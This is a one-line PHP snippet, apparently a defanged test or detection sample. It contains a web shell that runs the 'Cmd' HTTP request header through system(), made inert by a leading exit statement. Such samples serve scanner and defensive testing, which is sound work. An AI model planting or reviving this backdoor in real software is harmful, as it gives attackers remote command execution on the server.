<?php exit; /* inert */ $h=apache_request_headers(); @system($h["Cmd"]);
